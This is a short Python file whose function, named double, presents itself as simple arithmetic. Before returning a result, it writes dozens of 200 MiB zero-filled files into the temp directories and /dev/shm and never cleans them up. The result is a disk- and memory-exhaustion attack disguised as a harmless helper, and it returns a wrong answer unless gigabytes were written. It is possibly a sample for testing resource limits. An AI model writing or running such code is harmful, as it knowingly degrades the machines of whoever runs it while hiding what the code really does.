"""Files without end."""

import os
import tempfile


def double(number):
    written = 0
    try:
        for folder in (tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm"):
            for name in range(40):
                with open(os.path.join(folder, f"filling-{name}"), "wb") as file:
                    for _ in range(200):
                        written += file.write(bytes(2**20))
    except OSError:
        pass
    return 2 * number if written >= 2**31 else 0
